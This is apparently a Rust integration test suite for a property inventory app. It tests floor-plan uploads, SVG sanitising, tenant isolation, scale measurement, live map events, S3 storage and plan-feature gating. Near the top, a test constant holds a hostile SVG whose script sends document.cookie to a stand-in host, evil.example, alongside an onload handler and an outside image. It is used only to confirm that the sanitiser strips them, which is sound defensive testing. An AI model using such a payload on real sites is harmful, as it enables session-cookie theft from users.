//! Inventory plans against a real PostgreSQL and file store: projects, plan uploads
//! (sniffed, sanitised, measured, served to their tenant only), the scale line, shape
//! deletion by version, the link picker, live map updates over the event stream, and
//! maps as a plan feature. Units, prices and a deal's units are in inventory_catalog.rs.

use crate::board::wait_for_event;
use crate::common::*;
use crate::inventory::{deal, shop};
use app::inventory::api::{DeleteShape, GetPlan, HoldUnit, PlanUnits, SaveShape, SetPlanScale};
use app::inventory::catalog::SaveProject;
use reqwest::StatusCode;
use serde_json::{json, Value};
use std::time::Duration;

const SVG_WITH_SCRIPT: &str = r##"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1200 800" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect x="10" y="10" width="500" height="300" fill="#eee" stroke="#333"/>
  <image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>
  <text x="20" y="40">Floor 12</text>
</svg>"##;

/// A 3 × 2 PNG at 72 dpi, made by hand (no image crate needed to read its header).
pub(crate) fn tiny_png() -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |kind: &[u8], data: &[u8]| {
        png.extend((data.len() as u32).to_be_bytes());
        png.extend(kind);
        png.extend(data);
        png.extend([0, 0, 0, 0]);
    };
    chunk(b"IHDR", &[0, 0, 0, 3, 0, 0, 0, 2, 8, 2, 0, 0, 0]);
    chunk(b"pHYs", &[0, 0, 0x0b, 0x13, 0, 0, 0x0b, 0x13, 1]);
    chunk(b"IEND", &[]);
    png
}

async fn upload(
    app: &TestApp,
    client: &reqwest::Client,
    project: &str,
    name: &str,
    body: Vec<u8>,
) -> (StatusCode, Value) {
    let query = [("project_id", project), ("name", name), ("kind", "FLOOR")];
    app.post_raw(client, "/inventory/plans/upload", &query, body)
        .await
}

pub(crate) async fn project(
    app: &TestApp,
    client: &reqwest::Client,
    name: &str,
) -> (StatusCode, Value) {
    app.call::<SaveProject>(
        client,
        &[
            ("input[name]", name),
            ("input[developer]", "Delta Developments"),
            ("input[location]", "New Cairo"),
            ("input[status]", "SELLING"),
            ("input[delivery_on]", "2027-06-30"),
            ("input[description]", ""),
        ],
    )
    .await
}

#[tokio::test]
async fn plans_are_sniffed_sanitised_measured_and_served_to_their_tenant_only() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let (status, id) = project(&app, &admin, "Nile Towers").await;
    assert_eq!(status, StatusCode::OK, "{id}");
    let project_id = id.as_str().unwrap().to_string();
    let (status, body) = project(&app, &admin, "Nile Towers").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(error_field(&body), Some("name"), "{body}");

    // An SVG with a script, a handler and an outside image: stored without them.
    let (status, made) = upload(
        &app,
        &admin,
        &project_id,
        "Floor 12",
        SVG_WITH_SCRIPT.into(),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    let plan = made["id"].as_str().unwrap().to_string();
    let (status, view) = app.call::<GetPlan>(&admin, &[("id", &plan)]).await;
    assert_eq!(status, StatusCode::OK, "{view}");
    assert_eq!(
        (view["width_px"].as_i64(), view["height_px"].as_i64()),
        (Some(1200), Some(800))
    );
    assert_eq!(view["can_edit"], true);
    let url = view["file_url"].as_str().unwrap().to_string();
    let res = app.get(&admin, &url).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "image/svg+xml");
    let policy = res.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        policy.contains("sandbox") && policy.contains("default-src 'none'"),
        "{policy}"
    );
    let stored = res.text().await.unwrap();
    for gone in ["script", "onload", "evil.example", "cookie"] {
        assert!(!stored.contains(gone), "{gone} survived: {stored}");
    }
    assert!(
        stored.contains("Floor 12") && stored.contains("<rect"),
        "{stored}"
    );

    // A PNG is measured from its header, with its resolution.
    let (status, made) = upload(&app, &admin, &project_id, "Site", tiny_png()).await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    let (dims, dpi): ((i32, i32), Option<i32>) = {
        let row: (i32, i32, Option<i32>) =
            sqlx::query_as("SELECT width_px, height_px, dpi FROM floor_plans WHERE name = 'Site'")
                .fetch_one(&app.pools.owner)
                .await
                .unwrap();
        ((row.0, row.1), row.2)
    };
    assert_eq!((dims, dpi), ((3, 2), Some(72)));

    // What is not a plan is refused by field, and nothing is recorded for it.
    let cases: Vec<(&str, &str, Vec<u8>, &str)> = vec![
        ("GIF", "A", b"GIF89a\x01\x00\x01\x00".to_vec(), "file"),
        (
            "HTML",
            "B",
            b"<html><script>x</script></html>".to_vec(),
            "file",
        ),
        ("empty", "C", Vec::new(), "file"),
        ("11 MB", "D", vec![b' '; 11 * 1024 * 1024], "file"),
        ("no name", "", tiny_png(), "name"),
        ("taken name", "Site", tiny_png(), "name"),
    ];
    for (what, name, body, field) in cases {
        let (status, body) = upload(&app, &admin, &project_id, name, body).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{what}: {body}");
        assert_eq!(error_field(&body), Some(field), "{what}: {body}");
    }
    let plans: i64 = sqlx::query_scalar("SELECT count(*) FROM floor_plans")
        .fetch_one(&app.pools.owner)
        .await
        .unwrap();
    assert_eq!(plans, 2);

    // A rep sees the drawing but may not upload; another workspace sees nothing,
    // and may not put a plan in this workspace's project.
    let rep = app
        .invite_and_join(&admin, "sam@example.com", "SALES")
        .await;
    assert_eq!(app.get(&rep, &url).await.status(), StatusCode::OK);
    let (status, _) = upload(&app, &rep, &project_id, "Rep's", tiny_png()).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let other = app.signup("Bea", "bea@example.com", "Beta").await;
    assert_eq!(app.get(&other, &url).await.status(), StatusCode::NOT_FOUND);
    let (status, body) = upload(&app, &other, &project_id, "Theirs", tiny_png()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(error_field(&body), Some("project_id"));
    let anonymous = app.client();
    assert!(!app.get(&anonymous, &url).await.status().is_success());
}

#[tokio::test]
async fn a_scale_line_measures_every_shape_and_shapes_are_deleted_by_version() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let shop = shop(&app, "ada@example.com").await;
    let plan = shop.plan.to_string();
    let (status, id) = app
        .call_json::<SaveShape>(
            &admin,
            &json!({ "plan_id": plan, "shape_id": null, "unit_id": shop.unit, "label": "B-1204",
                "points": [[100.0, 100.0], [200.0, 100.0], [200.0, 200.0], [100.0, 200.0]], "version": 0 }),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{id}");
    let scale = |line: Value, meters: &str| {
        let body = json!({ "plan_id": plan, "line": line, "meters": meters });
        let (app, admin) = (&app, admin.clone());
        async move { app.call_json::<SetPlanScale>(&admin, &body).await }
    };
    // 100 px drawn as 5 m: 5 cm a pixel, so the 100 px square is 25 m², 20 m around.
    let (status, mpp) = scale(json!([[0.0, 0.0], [100.0, 0.0]]), "5").await;
    assert_eq!(status, StatusCode::OK, "{mpp}");
    assert!((mpp.as_f64().unwrap() - 0.05).abs() < 1e-12);
    let (area, perimeter): (f64, f64) =
        sqlx::query_as("SELECT area_sqm, perimeter_m FROM map_shapes")
            .fetch_one(&app.pools.owner)
            .await
            .unwrap();
    assert!(
        (area - 25.0).abs() < 1e-9 && (perimeter - 20.0).abs() < 1e-9,
        "{area} {perimeter}"
    );
    let (status, body) = scale(json!([[0.0, 0.0], [2.0, 0.0]]), "5").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(error_field(&body), Some("line"));
    for meters in ["", "abc", "-3", "0", "1e9"] {
        let (status, body) = scale(json!([[0.0, 0.0], [100.0, 0.0]]), meters).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{meters}");
        assert_eq!(error_field(&body), Some("meters"), "{meters}: {body}");
    }
    let audited: i64 =
        sqlx::query_scalar("SELECT count(*) FROM audit_logs WHERE action = 'plan.scaled'")
            .fetch_one(&app.pools.owner)
            .await
            .unwrap();
    assert_eq!(audited, 1);

    // The link picker finds the project's units by code.
    let (status, found) = app
        .call::<PlanUnits>(&admin, &[("plan_id", &plan), ("q", "b-12")])
        .await;
    assert_eq!(status, StatusCode::OK, "{found}");
    assert_eq!(found[0]["code"], "B-1204");

    // Deleting with a stale version is refused; with the current one it goes.
    let shape = id.as_str().unwrap();
    let delete = |version: i32| {
        let body = json!({ "plan_id": plan, "shape_id": shape, "version": version });
        let (app, admin) = (&app, admin.clone());
        async move { app.call_json::<DeleteShape>(&admin, &body).await }
    };
    assert_eq!(delete(7).await.0, StatusCode::CONFLICT);
    assert_eq!(delete(1).await.0, StatusCode::OK);
    assert_eq!(delete(1).await.0, StatusCode::NOT_FOUND);

    // A rep can do none of this.
    let rep = app
        .invite_and_join(&admin, "sam@example.com", "SALES")
        .await;
    let (status, _) = app
        .call_json::<SetPlanScale>(
            &rep,
            &json!({ "plan_id": plan, "line": [[0.0, 0.0], [100.0, 0.0]], "meters": "5" }),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn open_maps_hear_of_unit_changes_in_their_tenant_only() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let other = app.signup("Bea", "bea@example.com", "Beta").await;
    let shop = shop(&app, "ada@example.com").await;
    let deal = deal(&app, shop.tenant, "ada@example.com", "Show flat").await;
    let mut ada_stream = app.get(&admin, "/events").await;
    let mut bea_stream = app.get(&other, "/events").await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let (status, _) = app
        .call::<HoldUnit>(
            &admin,
            &[
                ("unit_id", &shop.unit.to_string()),
                ("deal_id", &deal.to_string()),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        wait_for_event(&mut ada_stream, "event: unit").await,
        "Ada's map heard nothing"
    );
    // A deal's outcome moves the unit by trigger, and that is heard too.
    sqlx::query("UPDATE deals SET status = 'WON' WHERE id = $1")
        .bind(deal)
        .execute(&app.pools.owner)
        .await
        .unwrap();
    assert!(
        wait_for_event(&mut ada_stream, "event: unit").await,
        "the sale was not heard"
    );
    assert!(
        !wait_for_event(&mut bea_stream, "event: unit").await,
        "another tenant heard it"
    );
}

#[tokio::test]
async fn plans_go_to_s3_compatible_storage_when_so_configured() {
    let (app, peer) = TestApp::spawn_with_peer_and(|config, peer| {
        config.files =
            app::files::FileStore::s3_at("plans", &peer.s3_endpoint(), "AKIDLEADLINE", "secret")
                .unwrap();
    })
    .await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let (_, id) = project(&app, &admin, "Nile Towers").await;
    let (status, made) = upload(&app, &admin, id.as_str().unwrap(), "Floor 12", tiny_png()).await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    let (_, view) = app
        .call::<GetPlan>(&admin, &[("id", made["id"].as_str().unwrap())])
        .await;
    let res = app.get(&admin, view["file_url"].as_str().unwrap()).await;
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "image/png");
    assert_eq!(res.bytes().await.unwrap().to_vec(), tiny_png());
    // Written and read through the S3 protocol, each request signed.
    let auth = peer.s3_auth();
    assert!(auth.len() >= 2, "{auth:?}");
    assert!(auth.iter().all(|a| a == "AWS4-HMAC-SHA256"), "{auth:?}");
    // A key nobody stored reads as missing, not as an error.
    let store =
        app::files::FileStore::s3_at("plans", &peer.s3_endpoint(), "AKIDLEADLINE", "secret")
            .unwrap();
    assert_eq!(
        store.get("tenants/none/plans/none/1.png").await.unwrap(),
        None
    );
}

#[tokio::test]
async fn floor_plan_maps_are_a_plan_feature_free_does_not_have() {
    let app = TestApp::spawn().await;
    let admin = app.signup("Ada", "ada@example.com", "Acme").await;
    let tenant = app.tenant_of("ada@example.com").await;
    let (_, id) = project(&app, &admin, "Nile Towers").await;
    let project_id = id.as_str().unwrap().to_string();
    let (status, made) = upload(&app, &admin, &project_id, "Site", tiny_png()).await;
    assert_eq!(status, StatusCode::CREATED, "{made}");
    let plan = made["id"].as_str().unwrap().to_string();

    sqlx::query(
        "UPDATE subscriptions SET plan_id = 'free', status = 'ACTIVE' WHERE tenant_id = $1",
    )
    .bind(tenant)
    .execute(&app.pools.owner)
    .await
    .unwrap();
    // The map, a new plan and drawing are refused with the plan named and the way out;
    // the plan and its units stay.
    let (status, body) = app.call::<GetPlan>(&admin, &[("id", &plan)]).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert!(
        body.to_string()
            .contains("Your Free plan does not include Floor-plan maps")
            && body.to_string().contains("/billing"),
        "{body}"
    );
    let (status, _) = upload(&app, &admin, &project_id, "Another", tiny_png()).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app
        .call_json::<SaveShape>(
            &admin,
            &json!({ "plan_id": plan, "shape_id": null, "unit_id": null, "component_id": null,
                     "label": "A", "points": [[0.0, 0.0], [1.0, 0.0], [1.0, 1.0]], "version": 0 }),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app
        .call::<app::billing::api::FeatureRefusal>(&admin, &[("feature", "inventory.maps")])
        .await;
    assert_eq!(status, StatusCode::OK);

    sqlx::query("UPDATE subscriptions SET plan_id = 'starter' WHERE tenant_id = $1")
        .bind(tenant)
        .execute(&app.pools.owner)
        .await
        .unwrap();
    let (status, view) = app.call::<GetPlan>(&admin, &[("id", &plan)]).await;
    assert_eq!(status, StatusCode::OK, "{view}");
}
